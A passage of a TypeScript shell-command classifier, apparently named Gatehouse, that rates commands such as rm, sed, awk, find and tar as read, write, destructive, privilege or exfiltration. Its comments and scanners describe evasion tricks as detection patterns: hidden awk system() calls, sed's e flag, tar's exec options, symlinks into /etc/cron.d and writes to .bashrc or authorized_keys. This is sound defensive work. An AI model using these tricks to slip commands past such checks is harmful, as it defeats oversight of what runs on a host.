// The command table: what each known command does to the host, from its name, subcommand and options
// (docs/shell.md lists it). A command missing here is `unknown`. Wrappers (sudo, env, xargs, timeout…)
// and shells (`sh -c`) hand their command back to the classifier through RuleContext.

import type { ShellCategory } from '../core/shell-command.js';
import {
  hasAny,
  mayBeOption,
  scanOptions,
  unlistedOption,
  type OptionSpec,
  type ScannedOptions,
} from './command-options.js';
import { braceExpand, type WordValue } from './shell-words.js';
import { devTcpHost, hostOf, isLoopbackHost, pathRisk, type PathRisk } from './targets.js';

/** What a rule says about one command. `null` from a wrapper: the wrapped command was classified instead. */
export interface Verdict {
  readonly kind: string;
  readonly categories: readonly ShellCategory[];
  readonly notes?: readonly string[];
}

/** Where a command's standard input comes from (decides whether a shell reads a script we cannot see). */
export type StdinSource = 'inherited' | 'pipe' | 'heredoc' | 'herestring' | 'file';

export interface RuleContext {
  readonly stdin: StdinSource;
  /**
   * Classifies a wrapped command (its words), with the wrapper's name and extra categories; `chdir`, the
   * directory the wrapper starts it in (`env -C DIR`), when it is not this shell's.
   */
  nested(words: readonly WordValue[], via: string, extra?: readonly ShellCategory[], chdir?: WordValue): void;
  /** Classifies a shell string (`sh -c STRING`, `su -c`, an ssh remote command, `watch`). */
  nestedLine(line: WordValue, via: string, extra?: readonly ShellCategory[]): void;
  /** The risk of writing to a path word, given what the line did to the working directory. */
  writeRisk(path: WordValue): PathRisk;
  /**
   * Marks the line as containing a construct that evaluates variable values as code; `word`, when
   * given, is a name it evaluates (`a[i]`: the subscript's names must be known to the line).
   */
  evaluates(word?: string): void;
  /** Marks the line as giving a variable a value computed at run time (`read`, `printf -v`…). */
  computes(): void;
}

export type Rule = (args: readonly WordValue[], name: string, ctx: RuleContext) => Verdict | null;

const R: readonly ShellCategory[] = ['read'];
const W: readonly ShellCategory[] = ['write'];
const D: readonly ShellCategory[] = ['destructive'];
const P: readonly ShellCategory[] = ['privilege'];
const X: readonly ShellCategory[] = ['exfiltration'];
const U: readonly ShellCategory[] = ['unknown'];

const verdict = (kind: string, categories: readonly ShellCategory[], ...notes: string[]): Verdict =>
  notes.length === 0 ? { kind, categories } : { kind, categories, notes };

const fixed =
  (categories: readonly ShellCategory[], note?: string): Rule =>
  (_args, name) =>
    note === undefined ? verdict(name, categories) : verdict(name, categories, note);

const read = fixed(R);
const unknownCommand = (note: string): Rule => fixed(U, note);

/** Categories for writing to each path word (write; system → privilege; devices → destructive). */
function writeTargets(paths: readonly WordValue[], ctx: RuleContext): ShellCategory[] {
  const cats = new Set<ShellCategory>();
  for (const p of paths) {
    if (p.dynamic || p.expands) {
      cats.add('write');
      if (p.dynamic) cats.add('unknown');
      continue;
    }
    switch (ctx.writeRisk(p)) {
      case 'harmless':
        break;
      case 'normal':
        cats.add('write');
        break;
      case 'system':
        cats.add('write').add('privilege');
        break;
      case 'device':
        cats.add('destructive');
        break;
      case 'network':
        cats.add(targetIsLoopback(devTcpHost(p.value)) ? 'write' : 'exfiltration');
        break;
      case 'unknown':
        cats.add('write').add('unknown');
        break;
    }
  }
  return [...cats];
}

function targetIsLoopback(host: string | undefined): boolean {
  return host !== undefined && isLoopbackHost(host);
}

function withCats(kind: string, ...lists: (readonly ShellCategory[])[]): Verdict {
  const cats = new Set<ShellCategory>();
  for (const l of lists) for (const c of l) cats.add(c);
  if (cats.size === 0) cats.add('read');
  return { kind, categories: [...cats] };
}

/** A verdict's categories (less `read`) and notes under another kind, with more categories. */
function rekind(kind: string, v: Verdict, ...lists: (readonly ShellCategory[])[]): Verdict {
  const w = withCats(
    kind,
    v.categories.filter((c) => c !== 'read'),
    ...lists,
  );
  return v.notes === undefined ? w : { ...w, notes: v.notes };
}

/**
 * A program's options, as its manual lists them: those that only choose what is read or how it is
 * shown, those whose value is a file it writes, and those that change or run something. An option
 * the table does not list is `unknown`: a rule built on one fails closed on an option it was not
 * told about.
 */
interface OptionTable {
  /** Letters and long names (space-separated) that only choose what is read or shown. */
  readonly reads: string;
  /** Valued options whose value is a file the program writes (given without one: `unknown`). */
  readonly writes?: string;
  /** Options that write, run or change something else: the categories each adds, and why. */
  readonly does?: Readonly<Record<string, readonly [readonly ShellCategory[], string]>>;
  /** Long names match whatever their case (less reads `--LOG-FILE` as `-O`, `--log-file` as `-o`). */
  readonly caseless?: boolean;
}

/** What the options scanned from a command do, by its table (OptionTable). */
function optionEffects(
  o: ScannedOptions,
  name: string,
  table: OptionTable,
  ctx: RuleContext,
): { categories: ShellCategory[]; notes: string[] } {
  const list = (s: string | undefined): string[] => (s ?? '').split(/\s+/).filter((x) => x !== '');
  // Letters are never folded (`-o` and `-O` differ); long names are, for a caseless table.
  const fold = (n: string): string => (table.caseless === true && n.length > 1 ? n.toLowerCase() : n);
  const reads = new Set(list(table.reads).map(fold));
  const writes = new Set(list(table.writes).map(fold));
  const does = new Map(Object.entries(table.does ?? {}).map(([k, v]) => [fold(k), v] as const));
  const longNames = [...reads, ...writes, ...does.keys()].filter((n) => n.length > 1);
  const cats = new Set<ShellCategory>();
  const notes: string[] = [];
  const given = [...[...o.flags].filter((f) => f.length === 1 && f !== '-'), ...o.long];
  for (const g of given) {
    const key = fold(g);
    // A long name as written may be an abbreviation: it is every listed option it begins.
    const names = g.length === 1 ? [key] : longNames.filter((n) => n.startsWith(key));
    const known = names.filter((n) => reads.has(n) || writes.has(n) || does.has(n));
    if (known.length === 0) {
      cats.add('unknown');
      notes.push(
        `${name} ${g.length === 1 ? '-' : '--'}${g} is not an option Gatehouse knows ${name} to have`,
      );
      continue;
    }
    for (const n of known) {
      if (writes.has(n)) {
        const targets = [
          ...(o.values.get(n) ?? []),
          ...(table.caseless === true ? (o.values.get(n.toUpperCase()) ?? []) : []),
        ];
        if (targets.length === 0) {
          cats.add('write').add('unknown');
          notes.push(`${name} ${g.length === 1 ? '-' : '--'}${g} writes a file Gatehouse cannot name`);
        } else for (const c of writeTargets(targets, ctx)) cats.add(c);
      }
      const effect = does.get(n);
      if (effect !== undefined) {
        for (const c of effect[0]) cats.add(c);
        if (effect[1] !== '') notes.push(effect[1]);
      }
    }
  }
  return { categories: [...cats], notes };
}

/** A verdict from an option table: the categories of the options given, `read` when none adds any. */
function fromTable(
  o: ScannedOptions,
  name: string,
  kind: string,
  table: OptionTable,
  ctx: RuleContext,
  ...more: (readonly ShellCategory[])[]
): Verdict {
  const e = optionEffects(o, name, table, ctx);
  const cats = new Set<ShellCategory>([...e.categories, ...more.flat()]);
  if (o.dynamic) {
    cats.add('unknown');
    e.notes.push(`${name} is given a word made at run time, which may be any of its options`);
  }
  if (cats.size === 0) cats.add('read');
  return { kind, categories: [...cats], ...(e.notes.length > 0 ? { notes: e.notes } : {}) };
}

// ---------------------------------------------------------------------------------------------------
// Files

const rm: Rule = (args, _name, ctx) => {
  const o = scanOptions(args);
  const recursive = hasAny(o, 'r', 'R', 'recursive');
  const risky = o.operands.filter((p) => p.dynamic || p.expands || ctx.writeRisk(p) !== 'normal');
  if (recursive)
    return verdict('rm -r', o.operands.some((p) => ctx.writeRisk(p) === 'system') ? [...D, ...P] : D);
  if (o.dynamic || risky.length > 0) {
    return verdict('rm', D, 'removes files named at run time, by a glob, or in a system directory');
  }
  return verdict('rm', W);
};

/** A word for a path made from known text. */
function literalWord(value: string): WordValue {
  return { value, dynamic: false, expands: false, text: value };
}

/**
 * Where copying or moving `sources` into `dest` puts them when `dest` is a directory: `DEST/NAME`, the
 * source's own last name, judged as a write there (`cp /tmp/x/.bashrc ~/` writes `~/.bashrc`,
 * `mv /tmp/bin ~` makes `~/bin`: docs/security.md class 378). Where the names are not known (a glob,
 * `dir/.`, a directory's contents with `-T` or rsync's `dir/`, a word made at run time) and a name
 * there could be a program's settings (`DEST/.profile`, `DEST/bin`), the write is `unknown`. Only the
 * categories beyond `write` are returned: the write itself is the destination's.
 */
function landedNames(
  sources: readonly WordValue[],
  dest: WordValue | undefined,
  contents: (source: WordValue) => boolean,
  ctx: RuleContext,
): { categories: ShellCategory[]; notes: string[] } {
  const categories = new Set<ShellCategory>();
  const notes: string[] = [];
  if (dest === undefined || dest.dynamic || dest.expands) return { categories: [], notes };
  const base = dest.value.replace(/\/+$/, '');
  const under = (name: string): WordValue => literalWord(`${base === '' ? '' : base}/${name}`);
  let unknownNames = false;
  for (const src of sources) {
    const last = src.value.replace(/\/+$/, '').split('/').pop() ?? '';
    if (src.dynamic || src.expands || last === '' || last === '.' || last === '..' || contents(src)) {
      unknownNames = true;
      continue;
    }
    for (const c of writeTargets([under(last)], ctx)) if (c !== 'write') categories.add(c);
  }
  if (unknownNames) {
    // Asked of the path alone (no write is noted): a relative one is taken from the home directory.
    const risky = ['.config', 'bin'].some((n) => pathRisk(under(n).value) !== 'normal');
    if (risky) {
      categories.add('unknown');
      notes.push(
        `writes names the command line does not show into ${dest.value.slice(0, 80)}, where a name may be a program's settings or start-up file`,
      );
    }
  }
  return { categories: [...categories], notes };
}

/** Writes its last operand (cp, mv, ln, install); system destinations are privilege. */
const copyLike =
  (spec: OptionSpec = {}): Rule =>
  (args, name, ctx) => {
    const o = scanOptions(args, spec);
    const target = o.values.get('t') ?? o.values.get('target-directory');
    const dests = target ?? o.operands.slice(-1);
    const cats = writeTargets(dests, ctx);
    // Into a directory, each source lands under its own name (`ln` names the link so too).
    const intoDirectory = !hasAny(o, 'T', 'no-target-directory');
    const landed = landedNames(
      target ? o.operands : o.operands.slice(0, -1),
      dests[dests.length - 1],
      () => !intoDirectory && hasAny(o, 'r', 'R', 'a', 'recursive', 'archive'),
      ctx,
    );
    cats.push(...landed.categories);
    if (name === 'mv') {
      // Moving a file away from a system path changes the system as much as writing to it.
      cats.push(...writeTargets(o.operands.slice(0, -1), ctx).filter((c) => c !== 'write'));
    }
    if (name === 'ln' || (name === 'cp' && hasAny(o, 's', 'l', 'link', 'symbolic-link'))) {
      // A link to a system path (`ln -s /etc/cron.d d`, a hard link to /etc/passwd) is a door: a later
      // write to `d/job` looks like one at home and lands in the system directory.
      const sources = target ? o.operands : o.operands.slice(0, -1);
      cats.push(...writeTargets(sources.length > 0 ? sources : o.operands, ctx).filter((c) => c !== 'write'));
    }
    if (o.dynamic) cats.push('unknown');
    const v = withCats(name, W, cats);
    return landed.notes.length > 0 ? { ...v, notes: landed.notes } : v;
  };

/** Writes every operand (touch, mkdir, tee…). */
const writesOperands =
  (spec: OptionSpec = {}): Rule =>
  (args, name, ctx) => {
    const o = scanOptions(args, spec);
    return withCats(
      name,
      writeTargets(o.operands, ctx),
      o.dynamic ? U : [],
      o.operands.length === 0 ? R : [],
    );
  };

const tee: Rule = (args, name, ctx) => {
  const o = scanOptions(args, { longValued: ['output-error'] });
  return withCats(name, R, writeTargets(o.operands, ctx), o.dynamic ? U : []);
};

const chmodLike: Rule = (args, name, ctx) => {
  const o = scanOptions(args, { longValued: ['reference', 'from'] });
  const ops = [...o.operands];
  const mode = name === 'chmod' || name === 'chown' || name === 'chgrp' ? ops.shift() : undefined;
  let privileged = false;
  if (name === 'chmod' && mode !== undefined) {
    // setuid/setgid bits make a program run as its owner (chmod(1): s in a symbolic mode, 2/4/6 in octal).
    const m = mode.value;
    if (mode.dynamic || /s/.test(m.replace(/^[ugoa]*/, '')) || /^[0-7]*[2-7][0-7]{3}$/.test(m))
      privileged = true;
  }
  if (name === 'chown' || name === 'chgrp') {
    if (hasAny(o, 'R', 'recursive')) privileged = true;
  }
  if (name === 'chattr' || name === 'setfacl' || name === 'setcap') privileged = true;
  const cats = writeTargets(ops, ctx);
  if (privileged || ops.some((p) => !p.dynamic && ctx.writeRisk(p) === 'system')) cats.push('privilege');
  return withCats(name, W, cats, o.dynamic ? U : []);
};

const truncateLike = fixed(D);

const sed: Rule = (args, name, ctx) => {
  const o = scanOptions(args, { shortValued: 'efl', longValued: ['expression', 'file', 'line-length'] });
  const scripts = [...(o.values.get('e') ?? []), ...(o.values.get('expression') ?? [])];
  const files = [...o.operands];
  if (scripts.length === 0 && (o.values.get('f') ?? o.values.get('file')) === undefined) {
    const first = files.shift();
    if (first !== undefined) scripts.push(first);
  }
  if (o.values.has('f') || o.values.has('file')) {
    return verdict('sed -f', U, 'runs a sed script from a file Gatehouse cannot see');
  }
  const cats = new Set<ShellCategory>(R);
  for (const s of scripts) {
    if (s.dynamic) cats.add('unknown');
    else for (const c of sedScriptRisk(s.value)) cats.add(c);
  }
  const inPlace = hasAny(o, 'i', 'in-place') || [...o.flags].some((f) => f.startsWith('in-place'));
  if (inPlace) for (const c of writeTargets(files, ctx)) cats.add(c);
  if (o.dynamic) cats.add('unknown');
  return withCats(inPlace ? `${name} -i` : name, [...cats]);
};

/**
 * What a sed script does beyond printing: `e` and `s///e` run commands, `w`/`W`/`s///w` write files,
 * `r`/`R` read them. A scanner over sed's command syntax (POSIX sed "Editing commands"); what it cannot
 * follow is unknown.
 */
export function sedScriptRisk(script: string): ShellCategory[] {
  const cats = new Set<ShellCategory>();
  let i = 0;
  const n = script.length;
  const skipSpace = (): void => {
    while (i < n && ' \t\n;'.includes(script[i]!)) i++;
  };
  const skipRegex = (delim: string): boolean => {
    while (i < n && script[i] !== delim) {
      if (script[i] === '\\') i++;
      if (script[i] === '\n' && delim !== '\n') return false;
      i++;
    }
    if (i >= n) return false;
    i++;
    return true;
  };
  const restOfLine = (): void => {
    while (i < n && script[i] !== '\n') i++;
  };
  let guard = 0;
  while (i < n) {
    if (++guard > 100_000) return ['unknown'];
    skipSpace();
    if (i >= n) break;
    // Addresses: number, $, /re/, \cREc, first~step, then optional ,addr2 and !
    for (let part = 0; part < 2; part++) {
      const c = script[i];
      if (c === undefined) break;
      if (/[0-9]/.test(c)) {
        while (i < n && /[0-9~]/.test(script[i]!)) i++;
      } else if (c === '$') i++;
      else if (c === '/') {
        i++;
        if (!skipRegex('/')) return ['unknown'];
        while (i < n && 'IM'.includes(script[i]!)) i++;
      } else if (c === '\\') {
        const d = script[i + 1];
        if (d === undefined) return ['unknown'];
        i += 2;
        if (!skipRegex(d)) return ['unknown'];
        while (i < n && 'IM'.includes(script[i]!)) i++;
      } else if ((c === '+' || c === '~') && part === 1) {
        i++;
        while (i < n && /[0-9]/.test(script[i]!)) i++;
      } else break;
      if (part === 0 && script[i] === ',') i++;
      else break;
    }
    while (i < n && ' \t!'.includes(script[i]!)) i++;
    const cmd = script[i];
    if (cmd === undefined) break;
    i++;
    switch (cmd) {
      case '{':
      case '}':
      case '=':
      case 'd':
      case 'D':
      case 'g':
      case 'G':
      case 'h':
      case 'H':
      case 'l':
      case 'n':
      case 'N':
      case 'p':
      case 'P':
      case 'x':
      case 'z':
      case 'F':
        break;
      case 'q':
      case 'Q':
      case 'L':
        while (i < n && /[0-9 ]/.test(script[i]!)) i++;
        break;
      case ':':
      case 'b':
      case 't':
      case 'T':
        while (i < n && script[i] !== '\n' && script[i] !== ';') i++;
        break;
      case 'a':
      case 'i':
      case 'c':
        restOfLine();
        break;
      case 'r':
      case 'R':
        restOfLine();
        break;
      case 'w':
      case 'W':
        cats.add('write');
        restOfLine();
        break;
      case 'e':
        return ['unknown'];
      case 'y': {
        const d = script[i];
        if (d === undefined) return ['unknown'];
        i++;
        if (!skipRegex(d) || !skipRegex(d)) return ['unknown'];
        break;
      }
      case 's': {
        const d = script[i];
        if (d === undefined || d === '\n' || d === '\\') return ['unknown'];
        i++;
        if (!skipRegex(d) || !skipRegex(d)) return ['unknown'];
        // Flags: g p i I m M e w FILE and a number.
        while (i < n && /[0-9gpiImMe]/.test(script[i]!)) {
          if (script[i] === 'e') return ['unknown'];
          i++;
        }
        if (script[i] === 'w') {
          cats.add('write');
          restOfLine();
        }
        break;
      }
      case '#':
        restOfLine();
        break;
      default:
        return ['unknown'];
    }
  }
  return [...cats];
}

/**
 * awk's options (gawk 5.2's `--help`, mawk's and POSIX's): those that only change how input is read.
 * A program from a file (-f, -E, -i, -l, mawk's `-W exec`) is not seen; -d, -D, -o and -p (gawk)
 * write a file (awkvars.out, awkprof.out…) or start a debugger reading commands; -W is mawk's and
 * gawk's door to all of them.
 */
const AWK_OPTIONS: OptionTable = {
  reads:
    'F v e b c C g h I L M N n O P r s S t V field-separator assign source characters-as-bytes traditional ' +
    'copyright gen-pot help trace lint bignum use-lc-numeric non-decimal-data optimize posix re-interval ' +
    'no-optimize sandbox lint-old version',
  does: Object.fromEntries(
    [
      ['f file E exec i include l load', 'runs an awk program from a file Gatehouse cannot see'],
      [
        'd dump-variables o pretty-print p profile',
        'writes a file of its own (dump, profile or program listing)',
      ],
      ['D debug', 'starts the awk debugger, which reads commands'],
      ['W', 'is given a -W option (mawk: exec, dump…; gawk: any long option)'],
    ].flatMap(([names, why]) => names!.split(' ').map((n) => [n, [U, `awk ${why}`] as const])),
  ),
};

const awk: Rule = (args, name, ctx) => {
  // awk stops at its first operand, the program unless -f/-e gave one; the rest are files and
  // assignments (gawk: `awk 'prog' -f x` reads a file named -f).
  const o = scanOptions(args, {
    shortValued: 'fvFEilWe',
    longValued: ['file', 'assign', 'field-separator', 'exec', 'include', 'load', 'source'],
    stopAtOperand: true,
  });
  const options = fromTable(o, name, name, AWK_OPTIONS, ctx);
  const given = [...(o.values.get('e') ?? []), ...(o.values.get('source') ?? [])];
  const programs = given.length > 0 || hasAny(o, 'f', 'file') ? given : o.operands.slice(0, 1);
  const cats = new Set<ShellCategory>(options.categories);
  const notes = [...(options.notes ?? [])];
  const targets: WordValue[] = [];
  for (const p of programs) {
    if (p.dynamic) {
      cats.add('unknown');
      notes.push('the awk program is computed at run time');
      continue;
    }
    const scan = awkScan(p.value);
    if (scan.runs) {
      cats.add('unknown');
      notes.push(
        'the awk program runs commands or reaches past its input: it holds system, a pipe, getline, ENVIRON, PROCINFO or a gawk @ (directive or indirect call)',
      );
    }
    for (const t of scan.writes) {
      if (t === undefined) {
        cats.add('write').add('unknown');
        notes.push('the awk program writes to a file named at run time');
      } else targets.push({ value: t, dynamic: false, expands: false, text: t });
    }
  }
  const v = withCats(name, [...cats], writeTargets(targets, ctx));
  return notes.length > 0 ? { ...v, notes } : v;
};

/**
 * What an awk program does beyond reading its input: `unknown` when it may run a command or reach
 * past its input, `write` when it redirects print/printf output to a file. See awkScan.
 */
export function awkProgramRisk(program: string): ShellCategory[] {
  const scan = awkScan(program);
  if (scan.runs) return ['unknown'];
  if (scan.writes.length === 0) return [];
  return scan.writes.some((t) => t === undefined) ? ['write', 'unknown'] : ['write'];
}

/** Readings of one awk program tried at most: past that, the program is taken to run commands. */
const MAX_AWK_READINGS = 256;

/**
 * Scans an awk program under every reading its slashes allow, failing closed rather than parsing
 * awk. Whether a `/` starts a regular expression or divides depends on the grammar (gawk reads
 * `x++ /1; system("…"); x=x/1` as two divisions, a guess from the character before it as a regex
 * hiding the system call), and awks differ; so wherever the previous token leaves it open, both are
 * tried, and what any reading finds counts; so is a `/` after a `[` in a regex (awks differ on
 * bracket expressions). A reading whose regex or string does not end on its line is one awk refuses
 * to run. Outside strings and regexes, `system`, `getline`, `ENVIRON`, `PROCINFO`,
 * a `|` (a pipe to or from a command, gawk's `|&`) and an `@` (gawk's `@include`, `@load`, `@f()`
 * indirect calls) make it `runs`; a `>` or `>>` in a print or printf statement (outside parentheses)
 * is a write, to the string literal after it or to a file named at run time (undefined).
 */
export function awkScan(program: string): { runs: boolean; writes: (string | undefined)[] } {
  const writes: (string | undefined)[] = [];
  let readings = 0;
  let steps = 0;
  /**
   * A reading from `i` on. `regexOk`: whether a `/` there starts a regex (`either`: both are tried).
   * `regex`: inside a regex; `bracket` inside a bracket expression of it; `sawBracket` after a `[`.
   */
  interface State {
    i: number;
    regexOk: boolean | 'either';
    inPrint: boolean;
    depth: number;
    regex: boolean;
    bracket: boolean;
    sawBracket: boolean;
  }
  const start: State = {
    i: 0,
    regexOk: true,
    inPrint: false,
    depth: 0,
    regex: false,
    bracket: false,
    sawBracket: false,
  };
  const queue: State[] = [start];
  // A reading from a state another reading was in finds the same: each is tried once.
  const seen = new Set<string>();
  const key = (x: State): string =>
    `${x.i} ${String(x.regexOk)} ${x.inPrint} ${x.depth} ${x.regex} ${x.bracket} ${x.sawBracket}`;
  const n = program.length;
  const skipString = (i: number): number => {
    // From the opening quote; -1 when it does not close on its line.
    for (let j = i + 1; j < n; j++) {
      const c = program[j]!;
      if (c === '\\') {
        j++;
        continue;
      }
      if (c === '"') return j + 1;
      if (c === '\n') return -1;
    }
    return -1;
  };
  while (queue.length > 0) {
    const s = queue.pop()!;
    if (seen.has(key(s))) continue;
    seen.add(key(s));
    if (++readings > MAX_AWK_READINGS) return { runs: true, writes };
    while (s.i < n) {
      if (++steps > 4_000_000) return { runs: true, writes };
      const c = program[s.i]!;
      if (s.regex) {
        // A regex ends at a `/` outside a bracket expression; awks differ on brackets (`[/]`,
        // `[[:alpha:]/]`), so after a `[` each `/` is tried both as the end and as a character.
        if (c === '\\') {
          s.i += 2;
          continue;
        }
        // A regex that does not end on its line: awk refuses this reading.
        if (c === '\n') break;
        if (c === '[') {
          s.bracket = true;
          s.sawBracket = true;
        } else if (c === ']' && s.bracket) s.bracket = false;
        else if (c === '/') {
          if (s.bracket) queue.push({ ...s, i: s.i + 1, regex: false, bracket: false, regexOk: 'either' });
          else {
            if (s.sawBracket) queue.push({ ...s, i: s.i + 1, bracket: true });
            s.regex = false;
            s.regexOk = 'either';
          }
        }
        s.i++;
        continue;
      }
      if (c === '/' && s.regexOk !== false) {
        // Division as well, when the token before leaves it open.
        if (s.regexOk === 'either') queue.push({ ...s, i: s.i + 1, regexOk: true });
        s.regex = true;
        s.bracket = false;
        s.sawBracket = false;
        s.i++;
        continue;
      }
      if (c === '"') {
        const end = skipString(s.i);
        if (end === -1) break;
        s.i = end;
        s.regexOk = 'either';
        continue;
      }
      if (c === '#') {
        while (s.i < n && program[s.i] !== '\n') s.i++;
        continue;
      }
      if (c === '\\' && program[s.i + 1] === '\n') {
        s.i += 2;
        continue;
      }
      if (/[A-Za-z_]/.test(c)) {
        let j = s.i;
        while (j < n && /[A-Za-z0-9_]/.test(program[j]!)) j++;
        const word = program.slice(s.i, j);
        s.i = j;
        if (['system', 'getline', 'ENVIRON', 'PROCINFO'].includes(word)) return { runs: true, writes };
        if (word === 'print' || word === 'printf') {
          s.inPrint = true;
          s.depth = 0;
        }
        // After a name a `/` divides (`x / 2`); after a keyword it may start a regex (`print /x/`);
        // some awks also read a regex after a name (concatenation): both are tried.
        s.regexOk = 'either';
        continue;
      }
      if (/[0-9.]/.test(c)) {
        while (s.i < n && /[0-9.eE]/.test(program[s.i]!)) s.i++;
        s.regexOk = 'either';
        continue;
      }
      // gawk's @include, @load, @namespace and @f() indirect calls; a pipe to or from a command.
      if (c === '@') return { runs: true, writes };
      if (c === '|') {
        if (program[s.i + 1] !== '|') return { runs: true, writes };
        s.i += 2;
        s.regexOk = true;
        continue;
      }
      if (c === '>' && s.inPrint && s.depth <= 0) {
        s.i += program[s.i + 1] === '>' ? 2 : 1;
        while (s.i < n && (program[s.i] === ' ' || program[s.i] === '\t')) s.i++;
        // The file is the string literal after it, whole; anything else is named at run time.
        const end = program[s.i] === '"' ? skipString(s.i) : -1;
        const literal = end === -1 ? undefined : program.slice(s.i + 1, end - 1);
        const after = end === -1 ? '' : program.slice(end).trimStart();
        writes.push(
          literal !== undefined && !literal.includes('\\') && /^($|[;}\n#])/.test(after)
            ? literal
            : undefined,
        );
        s.regexOk = true;
        continue;
      }
      if (c === '(') s.depth++;
      if (c === ')') s.depth--;
      if (c === ';' || c === '\n' || c === '{' || c === '}') s.inPrint = false;
      // `++`/`--` after an operand leave a `/` either way; a single + or - wants an operand.
      if ((c === '+' || c === '-') && program[s.i + 1] === c) {
        s.i += 2;
        s.regexOk = 'either';
        continue;
      }
      if (c === ')' || c === ']') s.regexOk = 'either';
      else if (!/\s/.test(c) || c === '\n') s.regexOk = true;
      s.i++;
    }
  }
  return { runs: false, writes };
}

const find: Rule = (args, _name, ctx) => {
  const cats = new Set<ShellCategory>(R);
  const notes: string[] = [];
  let kind = 'find';
  for (let i = 0; i < args.length; i++) {
    const a = args[i]!;
    if (a.dynamic || (a.expands && mayBeOption(a))) {
      // A word made at run time, or a glob that may match `-delete`, may be any primary.
      cats.add('unknown');
      notes.push(
        `find is given a word made at run time (${a.text.slice(0, 40)}), which may be -delete or -exec`,
      );
      continue;
    }
    if (a.expands) continue;
    switch (a.value) {
      case '-delete':
        cats.add('destructive');
        kind = 'find -delete';
        break;
      case '-exec':
      case '-execdir':
      case '-ok':
      case '-okdir': {
        const cmd: WordValue[] = [];
        let j = i + 1;
        for (; j < args.length; j++) {
          const w = args[j]!;
          if (!w.dynamic && (w.value === ';' || w.value === '+')) break;
          // `{}` is the found path: known only at run time.
          cmd.push(w.value.includes('{}') ? { ...w, dynamic: true, value: w.text } : w);
        }
        if (cmd.length > 0) ctx.nested(cmd, `find ${a.value}`);
        else cats.add('unknown');
        i = j;
        break;
      }
      case '-fprint':
      case '-fprint0':
      case '-fprintf':
      case '-fls': {
        const target = args[i + 1];
        if (target !== undefined) for (const c of writeTargets([target], ctx)) cats.add(c);
        i += a.value === '-fprintf' ? 2 : 1;
        break;
      }
      default:
    }
  }
  const v = withCats(kind, [...cats]);
  return notes.length > 0 ? { ...v, notes } : v;
};

/**
 * tar's options in list and compare modes (-t, -d): those that only choose what is read and how it is
 * shown, and those that write a file (GNU tar 1.34 --help). Any other is `unknown`: tar has many, and
 * some write (`--index-file` writes the listing to FILE, `--volno-file` the volume number) or run
 * something (`--to-command`, `-I`, `--checkpoint-action=exec`, `-F`, `--rsh-command`, above).
 */
const TAR_LIST_OPTIONS: OptionTable = {
  reads:
    't d v f z j J Z a C T X b B i R K N O S h P H l o p s m n ' +
    'list diff compare verbose file gzip gunzip ungzip bzip2 xz lzip lzma lzop zstd compress uncompress ' +
    'auto-compress no-auto-compress directory files-from exclude-from exclude exclude-vcs ' +
    'exclude-vcs-ignores exclude-backups exclude-caches exclude-caches-all exclude-caches-under ' +
    'exclude-tag exclude-tag-all exclude-tag-under wildcards no-wildcards wildcards-match-slash ' +
    'no-wildcards-match-slash anchored no-anchored ignore-case no-ignore-case null no-null unquote ' +
    'no-unquote verbatim-files-from no-verbatim-files-from recursion no-recursion numeric-owner ' +
    'full-time utc show-stored-names show-transformed-names show-omitted-dirs quoting-style ' +
    'quote-chars no-quote-chars blocking-factor record-size read-full-records ignore-zeros ' +
    'block-number force-local totals checkpoint warning label sparse one-file-system xattrs ' +
    'no-xattrs xattrs-include xattrs-exclude acls no-acls selinux no-selinux restrict transform xform ' +
    'strip-components occurrence to-stdout dereference hard-dereference absolute-names format posix ' +
    'old-archive portability seek no-seek starting-file newer after-date newer-mtime same-owner ' +
    'no-same-owner preserve-permissions same-permissions no-same-permissions preserve-order ' +
    'same-order owner-map group-map help usage version show-defaults',
  writes: 'index-file volno-file',
};

const tar: Rule = (args, name, ctx) => {
  // tar's first word may be old-style bundled letters without a dash (`tar xzf a.tgz`).
  const words = [...args];
  const first = words[0];
  if (first !== undefined && !first.dynamic && /^[A-Za-z]+$/.test(first.value)) {
    words[0] = { ...first, value: `-${first.value}` };
  }
  const o = scanOptions(words, {
    shortValued: 'fCTXbKNgVLFH',
    longValued: [
      'file',
      'directory',
      'files-from',
      'exclude-from',
      'to-command',
      'use-compress-program',
      'info-script',
      'new-volume-script',
      'checkpoint-action',
      'rsh-command',
      'rmt-command',
      'index-file',
      'volno-file',
      'listed-incremental',
      'exclude',
      'transform',
      'xform',
      'quoting-style',
      'strip-components',
      'blocking-factor',
      'record-size',
      'format',
      'label',
      'tape-length',
      'warning',
      'owner-map',
      'group-map',
    ],
  });
  if (
    hasAny(
      o,
      'to-command',
      'use-compress-program',
      'I',
      'info-script',
      'F',
      'new-volume-script',
      'checkpoint-action',
      'rsh-command',
    )
  ) {
    return verdict(`${name}`, U, 'tar runs a command given in its options');
  }
  const files = o.values.get('f') ?? o.values.get('file') ?? [];
  const remote = files.some((f) => !f.dynamic && hostOf(f.value) !== undefined);
  const cats: ShellCategory[] = remote ? [...X] : [];
  if (o.dynamic) cats.push('unknown');
  // --index-file and --volno-file write the files they name in every mode, -g the snapshot it updates.
  const written = writeTargets(valuesOf(o, ['index-file', 'volno-file']), ctx);
  if (hasAny(o, 't', 'list', 'd', 'diff', 'compare'))
    return fromTable(o, name, `${name} -t`, TAR_LIST_OPTIONS, ctx, cats);
  if (hasAny(o, 'x', 'extract', 'get')) {
    // What it writes is named by the archive (`.bashrc`, `.ssh/authorized_keys`, a link into /etc),
    // not by the command line: as scp -t's names come from the client.
    const dir = o.values.get('C') ?? o.values.get('directory') ?? [];
    return verdict(
      `${name} -x`,
      [
        ...new Set<ShellCategory>([
          ...W,
          ...writeTargets(dir, ctx),
          ...cats,
          ...(hasAny(o, 'recursive-unlink', 'unlink-first', 'U') ? D : []),
          ...written,
          'unknown',
        ]),
      ],
      `${name} -x writes the files and links the archive names, not the command line`,
    );
  }
  if (hasAny(o, 'c', 'create', 'r', 'append', 'u', 'update', 'A', 'catenate', 'concatenate', 'delete')) {
    return withCats(
      `${name} -c`,
      W,
      writeTargets(
        [...files.filter((f) => f.value !== '-'), ...valuesOf(o, ['g', 'listed-incremental'])],
        ctx,
      ),
      written,
      cats,
      hasAny(o, 'remove-files', 'delete') ? D : [],
    );
  }
  return verdict(name, U, 'tar without a recognised mode');
};

const compress: Rule = (args, name, ctx) => {
  const o = scanOptions(args, { shortValued: 'So', longValued: ['suffix', 'output'] });
  // zstd and lz4 write the file -o names, -c or not; lz4 --rm removes its input, -c or not.
  const out = withCats(
    name,
    writeTargets([...(o.values.get('o') ?? []), ...(o.values.get('output') ?? [])], ctx),
    hasAny(o, 'rm') ? D : [],
    o.dynamic ? U : [],
  );
